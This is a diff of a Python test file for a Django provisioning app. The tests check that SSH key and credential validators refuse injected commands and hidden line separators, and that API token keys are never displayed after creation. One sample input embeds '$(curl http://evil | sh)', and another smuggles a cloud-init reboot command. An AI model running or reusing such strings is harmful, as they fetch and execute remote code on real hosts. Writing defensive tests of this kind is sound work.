@@ -89,6 +89,12 @@ def test_authorized_keys_are_accepted(value):
         (f"{ED25519}\n$(curl http://evil | sh)", "Line 2"),
         (f"{ED25519} comment\x1b[2J", "control character"),
         (f"{ED25519}\nruncmd: [reboot]", "Line 2"),
+        # Line ends that sshd, YAML or Python see and "\n" does not: refused, not taken for a second key.
+        *[
+            (f"{ED25519} ops{separator}{ECDSA}", "Line 1 holds a control character or a line separator")
+            for separator in ("\u2028", "\u2029", "\x85", "\r", "\x0b", "\x0c", "\x1c")
+        ],
+        (f"{ED25519}\u2028", "line separator"),
     ],
 )
 def test_anything_but_authorized_keys_is_refused(value, says):
@@ -96,7 +102,7 @@ def test_anything_but_authorized_keys_is_refused(value, says):
         validate_ssh_authorized_keys(value)
 
 
-@pytest.mark.parametrize("value", INJECTIONS[:1] + INJECTIONS[3:])
+@pytest.mark.parametrize("value", [*INJECTIONS[:1], *INJECTIONS[3:], "a\u2028b", "a\u2029b", "a\x85b", "a\x9bb"])
 def test_credentials_refuse_control_characters(value):
     with pytest.raises(ValidationError, match="control character"):
         validate_credential(value)
@@ -274,3 +280,37 @@ def test_operator_templates_render_unescaped_and_the_filters_keep_values_inert(c
     command = preseed.splitlines()[1].split(" string ", 1)[1].replace("/target/etc/registry", str(tmp_path / "r"))
     subprocess.run(["sh", "-c", command], check=True)
     assert (tmp_path / "r").read_text() == HOSTILE_PASSWORD + "\n"
+
+
+def _staff(name: str, *actions: str) -> User:
+    from django.contrib.auth.models import Permission
+
+    user = User.objects.create_user(username=name, password="pw", is_staff=True)
+    user.user_permissions.set(Permission.objects.filter(codename__regex=rf"^({'|'.join(actions)})_"))
+    return user
+
+
+def test_no_one_reads_an_api_token_after_it_was_made(client, admin_user):
+    """View-only staff, staff who may change everything (users included) and superusers alike: no admin page, no
+    history and no API answer shows a token's key; a superuser sees it once, when making it."""
+    from rest_framework.authtoken.models import Token
+
+    kept = Token.objects.create(user=admin_user).key
+    users = [_staff("viewer", "view"), _staff("changer", "view", "change"), _staff("adder", "view", "change", "add")]
+    client.force_login(admin_user)
+    made = client.post("/admin/dock2box/apitoken/add/", {"user": users[0].pk}, follow=True).content.decode()
+    new = Token.objects.get(user=users[0]).key
+    assert made.count(new) == 1 and "not shown again" in made
+    pages = ["/admin/", "/admin/dock2box/apitoken/", f"/admin/dock2box/apitoken/{admin_user.pk}/change/",
+             f"/admin/dock2box/apitoken/{users[0].pk}/change/", f"/admin/dock2box/apitoken/{admin_user.pk}/history/",
+             f"/admin/dock2box/apitoken/{admin_user.pk}/delete/", "/admin/authtoken/tokenproxy/",
+             "/admin/admin/logentry/", "/api/v2/history/"]  # fmt: skip
+    for who in [*users, admin_user]:
+        client.force_login(who)
+        for page in pages:
+            body = client.get(page).content.decode()
+            assert kept not in body and new not in body, (who.username, page)
+        listed = client.get("/admin/dock2box/apitoken/")
+        assert listed.status_code == (200 if who.is_superuser else 403), who.username
+    client.force_login(admin_user)
+    assert f"{kept[:4]}…" in client.get("/admin/dock2box/apitoken/").content.decode()
